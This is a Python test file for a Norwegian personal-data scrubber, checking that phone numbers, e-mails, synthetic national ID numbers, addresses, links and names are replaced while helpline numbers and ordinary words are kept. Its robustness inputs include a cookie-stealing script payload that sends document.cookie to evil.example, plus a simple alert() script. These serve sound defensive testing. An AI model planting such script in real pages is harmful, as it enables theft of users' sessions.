"""The free-text scrubber (widgets.scrub): what must go, what must stay, and that it never breaks.

All fødselsnummer written out here are synthetic (month + 80, the convention for test numbers), so none can
belong to a real person; the ordinary-date ones are generated at run time by ``make_fnr``.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from widgets import scrub as scrub_mod
from widgets.scrub import (
    AMBIGUOUS_NAMES,
    BUILTIN_PUBLIC_NUMBERS,
    KINDS,
    PLACEHOLDERS,
    Finding,
    find_personal_data,
    first_names,
    reload_allowlists,
    scrub,
    scrub_report,
    valid_fodselsnummer,
)

REPO = Path(__file__).resolve().parent.parent
K1 = (3, 7, 6, 1, 8, 9, 4, 5, 2)
K2 = (5, 4, 3, 2, 7, 6, 5, 4, 3, 2)


def control_digits(first9: str) -> str | None:
    """The two mod-11 control digits for nine digits, or None if there are none (a remainder gives 10)."""
    d = [int(c) for c in first9]
    k1 = (11 - sum(w * x for w, x in zip(K1, d)) % 11) % 11
    if k1 == 10:
        return None
    k2 = (11 - sum(w * x for w, x in zip(K2, d + [k1])) % 11) % 11
    return None if k2 == 10 else f"{k1}{k2}"


def make_fnr(date6: str, dnummer: bool = False) -> str:
    """A valid fødselsnummer (or D-nummer: 4 added to the first digit) for a DDMMYY date."""
    if dnummer:
        date6 = str(int(date6[0]) + 4) + date6[1:]
    for individual in range(500, 1000):
        control = control_digits(f"{date6}{individual:03d}")
        if control:
            return f"{date6}{individual:03d}{control}"
    raise AssertionError("no individual number gives valid control digits")  # pragma: no cover


SYNTHETIC_FNR = ["15858548087", "01819048033", "31929948052"]  # month + 80
SYNTHETIC_DNR = ["55859048004", "41810448057"]  # day + 40, month + 80
GENERATED = [make_fnr(d, dn) for d in ("010190", "311299", "290200", "150585") for dn in (False, True)]


@pytest.fixture
def fresh_allowlists() -> Iterator[None]:
    """For tests that change ``TRYGGE_COURSE_DIR``: the cached names and allowlists are dropped after them."""
    reload_allowlists()
    yield
    reload_allowlists()


# ------------------------------------------------------------------------------------------------------------
# Must be scrubbed: (input, expected output)

MUST_SCRUB = [
    # telefon
    ("Ring meg på 98765432.", "Ring meg på [telefon]."),
    ("Nummeret mitt er 987 65 432 i kveld", "Nummeret mitt er [telefon] i kveld"),
    ("Ring 98 76 54 32 etter skolen", "Ring [telefon] etter skolen"),
    ("Fasttelefonen er 22 33 44 55.", "Fasttelefonen er [telefon]."),
    ("Tlf: +47 987 65 432", "Tlf: [telefon]"),
    ("Tlf: +4798765432", "Tlf: [telefon]"),
    ("Tlf: 0047 98765432", "Tlf: [telefon]"),
    ("Ring (+47) 98 76 54 32!", "Ring [telefon]!"),
    ("Mobil: 987-65-432", "Mobil: [telefon]"),
    ("Mobil: 987.65.432", "Mobil: [telefon]"),
    ("Mobil: 9876 5432", "Mobil: [telefon]"),
    ("tlf:98765432", "tlf:[telefon]"),
    ("Svensk nummer: +46 70 123 45 67", "Svensk nummer: [telefon]"),
    ("Ring 4798765432 nå", "Ring [telefon] nå"),
    ("Ring 98 765 432 i morgen", "Ring [telefon] i morgen"),
    ("Ring 987 654 32", "Ring [telefon]"),
    # e-post
    ("Skriv til ola.nordmann@gmail.com i dag", "Skriv til [e-post] i dag"),
    ("E-post: kari_h-92@student.uio.no.", "E-post: [e-post]."),
    ("Send til ola(at)online.no", "Send til [e-post]"),
    ("Send til kari [at] example.org", "Send til [e-post]"),
    ("mailto:per@firma.no", "mailto:[e-post]"),
    ("KARI@EXAMPLE.NO svarer", "[e-post] svarer"),
    # fødselsnummer (synthetic)
    ("Fødselsnummeret er 15858548087.", "Fødselsnummeret er [fødselsnummer]."),
    ("Fnr: 158585 48087", "Fnr: [fødselsnummer]"),
    ("D-nummer 55859048004", "D-nummer [fødselsnummer]"),
    ("D-nummer 418104 48057 her", "D-nummer [fødselsnummer] her"),
    # adresse
    ("Jeg bor i Storgata 12, 0155 Oslo.", "Jeg bor i [adresse]."),
    ("Adressen er Kirkeveien 5B.", "Adressen er [adresse]."),
    ("Hun bor i Bjørnstjerne Bjørnsons gate 3 i Bergen.", "Hun bor i [adresse] i Bergen."),
    ("Karl Johans gate 1 er fin.", "[adresse] er fin."),
    ("Vi møtes i Bygdøy allé 23.", "Vi møtes i [adresse]."),
    ("Trondheimsveien 2 A, 0560 Oslo", "[adresse]"),
    ("Storgata 12\n0155 Oslo", "[adresse]"),
    ("Jeg bor på Holmen, 0385 Oslo.", "Jeg bor på Holmen, [adresse]."),
    ("Kontoret ligger i Øvre Slottsgate 5.", "Kontoret ligger i [adresse]."),
    ("Solbakken 14, 7020 Trondheim", "[adresse]"),
    # lenke
    ("Les https://vg.no/nyheter/123 i dag", "Les [lenke] i dag"),
    ("Profilen er www.facebook.com/ola.nordmann.", "Profilen er [lenke]."),
    ("Følg instagram.com/ola_n", "Følg [lenke]"),
    ("Se http://example.com/profil?id=42.", "Se [lenke]."),
    ("(se https://example.org/x)", "(se [lenke])"),
    ("HTTPS://EXAMPLE.NO/OLA", "[lenke]"),
    # navn
    ("Ola ringte i går.", "[navn] ringte i går."),
    ("Jeg snakket med Kari Nordmann.", "Jeg snakket med [navn]."),
    ("Mohammed og Fatima kom sammen.", "[navn] og [navn] kom sammen."),
    ("Hilsen Jakub og Zofia", "Hilsen [navn] og [navn]"),
    ("Aisha og Ali var der", "[navn] og [navn] var der"),
    ("Łukasz og Ánde kom for sent", "[navn] og [navn] kom for sent"),
    ("Anne-Lise sa ja", "[navn] sa ja"),
    ("Olas mor ringte.", "[navn] mor ringte."),
    ("Kari H. ringte", "[navn] ringte"),
    ("Jeg heter Xyzzy Abcson og er 17 år.", "Jeg heter [navn] og er 17 år."),
    ("jeg heter ola og bor i oslo", "jeg heter [navn] og bor i oslo"),
    ("Navnet mitt er Sol.", "Navnet mitt er [navn]."),
    ("Søsteren min Liv ringte.", "Søsteren min [navn] ringte."),
    ("Jeg snakket med Liv i går.", "Jeg snakket med [navn] i går."),
    ("Liv Hansen var her.", "[navn] var her."),
    ("Dag Solstad skrev bøker.", "[navn] skrev bøker."),
    ("Hei Tone, takk for sist!", "Hei [navn], takk for sist!"),
    ("Vi snakket med Per.", "Vi snakket med [navn]."),
    ("Liv og Kari kom.", "[navn] og [navn] kom."),
    ("Hun het Mai.", "Hun het [navn]."),
    ("Kjæresten min, Hans, er snill.", "Kjæresten min, [navn], er snill."),
    ("Signe var ikke der.", "[navn] var ikke der."),
    ("Jeg har kjent Marte i 10 år.", "Jeg har kjent [navn] i 10 år."),
]


@pytest.mark.parametrize(("text", "expected"), MUST_SCRUB, ids=[t for t, _ in MUST_SCRUB])
def test_must_scrub(text: str, expected: str) -> None:
    assert scrub(text) == expected


# ------------------------------------------------------------------------------------------------------------
# Must stay as written

MUST_KEEP = [
    # public numbers
    "Ring 113 hvis det haster.",
    "Ring 112 eller 110.",
    "Mental Helse Hjelpetelefonen har 116 123.",
    "Alarmtelefonen 116 111 er for barn og unge.",
    "Legevakt: 116 117",
    "Hjelpetelefonen for kriminalitetsutsatte: 116 006",
    "Kors på halsen: 800 33 321",
    "Ring 800 57 000",
    "Kirkens SOS: 22 40 00 40",
    "Kirkens SOS: 22400040",
    "Kirkens SOS: +47 22 40 00 40",
    "Ring +47 116 123",
    "Politiet: 02800",
    # numbers that are not phone numbers
    "Det var i 2024.",
    "Vi snakkes kl. 21:30.",
    "Hun er 17 år.",
    "Jeg fikk 3 av 5 riktige.",
    "45 % sa ja.",
    "Tallet 12345678901 er ikke et fødselsnummer.",
    "Fra 2020-2024 og i 1990 2024.",
    "Datoen 12.03.2024, 2024-03-12 og 20240312.",
    "Vakten er kl. 2130-2300.",
    "Budsjettet er 25 000 000 kr.",
    "Orgnr 987 654 321",
    "Konto 1234 56 78903",
    "Innringeren var 34 år og ringte kl. 23.15.",
    "Spørsmål 4: Hva er et åpent spørsmål?",
    # words that are also names
    "Liv er viktig.",
    "God dag!",
    "God Dag!",
    "Dag for dag blir det bedre.",
    "17. Mai er nasjonaldagen.",
    "Per i dag er det bra.",
    "Hans mor ringte.",
    "Tone ned stemmen litt.",
    "Sol og regn i dag.",
    "Det er mitt Liv.",
    "Vi ses i Mai.",
    "Lykke til med vakta!",
    "Finn ut hva hun trenger.",
    "Stein på stein bygger tillit.",
    "Storm i et vannglass, tenkte jeg.",
    "Odd nok gikk det bra.",
    "Tom for ideer ble jeg stille.",
    "Vår oppgave er å lytte.",
    "Hans Majestet Kongen.",
    "Kirkens SOS og Mental Helse svarer.",
    "Mamma ring 113 nå",
    # allowlisted URLs
    "Chat på https://sidetmedord.no",
    "Se www.kirkens-sos.no/chat.",
    "https://www.116111.no/omalarmtelefonen",
    "Les rusinfo.no/sporsmal-og-svar",
    "korspahalsen.no",
    # markup and nothing
    "<script>alert(1)</script>",
    "",
    "   ",
]


@pytest.mark.parametrize("text", MUST_KEEP)
def test_must_keep(text: str) -> None:
    assert scrub(text) == text
    assert find_personal_data(text) == []


# ------------------------------------------------------------------------------------------------------------
# Fødselsnummer


@pytest.mark.parametrize("number", SYNTHETIC_FNR + SYNTHETIC_DNR + GENERATED)
def test_valid_fodselsnummer(number: str) -> None:
    assert valid_fodselsnummer(number)
    assert valid_fodselsnummer(f"{number[:6]} {number[6:]}")
    assert scrub(f"Nummeret er {number}.") == "Nummeret er [fødselsnummer]."
    assert scrub(f"Nummeret er {number[:6]} {number[6:]}.") == "Nummeret er [fødselsnummer]."


@pytest.mark.parametrize("number", SYNTHETIC_FNR + GENERATED)
def test_wrong_control_digit_is_not_fodselsnummer(number: str) -> None:
    wrong = number[:-1] + str((int(number[-1]) + 1) % 10)
    assert not valid_fodselsnummer(wrong)
    assert scrub(f"Tallet {wrong} er tull.") == f"Tallet {wrong} er tull."


@pytest.mark.parametrize(
    "value", ["", "1585854808", "158585480870", "1585854808x", "00000000000", "１５８５８５４８０８７"]
)
def test_not_fodselsnummer(value: str) -> None:
    assert not valid_fodselsnummer(value)


def test_control_digit_helper_matches_module() -> None:
    """The D-nummer rule is just «4 added to the first digit»: the same control digits apply."""
    assert make_fnr("010190", dnummer=True)[0] == "4"
    for number in GENERATED:
        assert control_digits(number[:9]) == number[9:]


# ------------------------------------------------------------------------------------------------------------
# Properties


MIXED = (
    "Hei! Jeg heter Kari Nordmann og ringer fordi broren min Per har det vanskelig. Han bor i Storgata 12, "
    "0155 Oslo, og du kan nå ham på 987 65 432 eller per.nordmann@gmail.com. Jeg har prøvd 116 123 og "
    "Kirkens SOS på 22 40 00 40 kl. 21:30. Han er 17 år. Se https://sidetmedord.no og "
    "www.facebook.com/per.nordmann. Fødselsnummeret hans er 15858548087. Liv er viktig."
)
ALL_EXAMPLES = [t for t, _ in MUST_SCRUB] + MUST_KEEP + [MIXED]


@pytest.mark.parametrize("text", ALL_EXAMPLES)
def test_idempotent(text: str) -> None:
    once = scrub(text)
    assert scrub(once) == once


def test_placeholders_are_never_scrubbed() -> None:
    text = " ".join(PLACEHOLDERS.values())
    assert scrub(text) == text
    assert find_personal_data(text) == []
    spaced = "Ring [telefon] eller skriv til [e-post], [navn] bor i [adresse]. [lenke] [fødselsnummer]"
    assert scrub(spaced) == spaced


def test_placeholders_are_the_documented_ones() -> None:
    assert set(KINDS) == {"telefon", "e-post", "fødselsnummer", "adresse", "lenke", "navn"}
    assert PLACEHOLDERS == {k: f"[{k}]" for k in KINDS}


def test_mixed_message() -> None:
    assert scrub(MIXED) == (
        "Hei! Jeg heter [navn] og ringer fordi broren min [navn] har det vanskelig. Han bor i [adresse], "
        "og du kan nå ham på [telefon] eller [e-post]. Jeg har prøvd 116 123 og Kirkens SOS på 22 40 00 40 "
        "kl. 21:30. Han er 17 år. Se https://sidetmedord.no og [lenke]. Fødselsnummeret hans er "
        "[fødselsnummer]. Liv er viktig."
    )


def test_findings_sorted_non_overlapping_and_typed() -> None:
    findings = find_personal_data(MIXED)
    assert all(isinstance(f, Finding) and f.kind in KINDS for f in findings)
    assert findings == sorted(findings, key=lambda f: f.start)
    for a, b in zip(findings, findings[1:]):
        assert a.end <= b.start
    assert [MIXED[f.start : f.end] for f in findings if f.kind == "telefon"] == ["987 65 432"]
    assert [MIXED[f.start : f.end] for f in findings if f.kind == "navn"] == ["Kari Nordmann", "Per"]


def test_finding_is_frozen() -> None:
    f = Finding("navn", 0, 3)
    with pytest.raises(AttributeError):
        f.kind = "telefon"  # type: ignore[misc]


def test_scrub_report_counts() -> None:
    clean, counts = scrub_report(MIXED)
    assert clean == scrub(MIXED)
    assert counts == {"lenke": 1, "e-post": 1, "fødselsnummer": 1, "telefon": 1, "adresse": 1, "navn": 2}
    assert scrub_report("Ingenting her.") == ("Ingenting her.", dict.fromkeys(KINDS, 0))


def test_keep_leaves_a_scenario_alias_alone() -> None:
    assert scrub("Hei Ida, jeg heter Ola.", keep=["Ida"]) == "Hei Ida, jeg heter [navn]."
    assert scrub("Hei Ida", keep="Ida") == "Hei Ida"
    assert scrub("Hei Ida") == "Hei [navn]"


# ------------------------------------------------------------------------------------------------------------
# Robustness


@pytest.mark.parametrize("func", [scrub, scrub_report, find_personal_data, valid_fodselsnummer])
@pytest.mark.parametrize("value", [None, b"98765432", 98765432, ["Ola"], 3.5])
def test_non_str_raises_type_error(func, value) -> None:
    with pytest.raises(TypeError, match="expects str"):
        func(value)


ODD_INPUTS = [
    "",
    "\x00\x01\x02",
    "\ud800 ensom surrogat",
    "🙂 Ola 🙂 ✨",
    "e\u0301 A\u030a Ola",
    "مرحبا Ola שלום",
    "<b>Ola</b><script>fetch('https://evil.example/x?d='+document.cookie)</script>",
    "[[[telefon]]] [navn [navn]] ]][[",
    "a" * 100_000 + "@",
    "9" * 20_000,
    "+" * 5_000 + "4" * 5_000,
    "www." + "a." * 20_000,
    "Ola " * 20_000,
    ("Storgata " * 5_000) + "12",
    "@" * 10_000,
    "1 2 3 4 5 6 7 8 9 0 " * 2_000,
]


@pytest.mark.parametrize("text", ODD_INPUTS, ids=range(len(ODD_INPUTS)))
def test_never_raises_for_str(text: str) -> None:
    out = scrub(text)
    assert isinstance(out, str)
    clean, counts = scrub_report(text)
    assert clean == out and set(counts) == set(KINDS)


def test_str_subclass_is_accepted() -> None:
    class Markup(str):
        pass

    out = scrub(Markup("Ring 98765432"))
    assert out == "Ring [telefon]" and type(out) is str


# ------------------------------------------------------------------------------------------------------------
# Allowlists and the name list


def test_public_numbers_include_builtin_and_directory() -> None:
    numbers = scrub_mod.PUBLIC_NUMBERS
    assert BUILTIN_PUBLIC_NUMBERS <= numbers
    directory = REPO / "data" / "helplines.yaml"
    if directory.is_file():
        import yaml

        for service in yaml.safe_load(directory.read_text(encoding="utf-8")).get("services", []):
            phone = service.get("phone")
            if phone:
                assert scrub_mod._national_digits(str(phone)) in numbers
                assert scrub(f"Ring {phone}") == f"Ring {phone}"


@pytest.mark.usefixtures("fresh_allowlists")
def test_helplines_of_a_course_directory_are_allowed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert scrub("Ring 55 12 34 56 eller https://hjelp.example.org/chat") == "Ring [telefon] eller [lenke]"
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "helplines.yaml").write_text(
        "services:\n"
        "  - id: lokal\n"
        '    phone: "+47 55 12 34 56"\n'
        "    chat: https://hjelp.example.org/chat\n"
        "  - id: uten-telefon\n"
        "    phone: null\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("TRYGGE_COURSE_DIR", str(tmp_path))
    reload_allowlists()
    assert scrub("Ring 55 12 34 56 eller https://hjelp.example.org/chat") == (
        "Ring 55 12 34 56 eller https://hjelp.example.org/chat"
    )
    assert "hjelp.example.org" in scrub_mod.ALLOWED_DOMAINS


@pytest.mark.usefixtures("fresh_allowlists")
def test_broken_helplines_file_falls_back_to_builtin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "helplines.yaml").write_text("services: [unclosed\n", encoding="utf-8")
    monkeypatch.setenv("TRYGGE_COURSE_DIR", str(tmp_path))
    reload_allowlists()
    with pytest.warns(RuntimeWarning, match="could not read"):
        assert scrub("Ring 116 123 eller 98765432") == "Ring 116 123 eller [telefon]"


def test_name_list_file() -> None:
    path = REPO / "data" / "names" / "fornavn.txt"
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith("#") and "allmenn kunnskap" in lines[0]
    assert any("general knowledge" in line for line in lines if line.startswith("#"))
    names = [line.strip() for line in lines if line.strip() and not line.startswith("#")]
    assert len(names) >= 400
    assert len(names) == len(set(names)), "duplicates in fornavn.txt"
    assert all(n[0].isupper() and " " not in n for n in names)
    for name in ["Mohammed", "Ali", "Fatima", "Aisha", "Jakub", "Zofia", "Ola", "Kari", "Per", "Ingrid"]:
        assert name in names
    assert AMBIGUOUS_NAMES <= set(names)
    assert set(names) <= first_names()
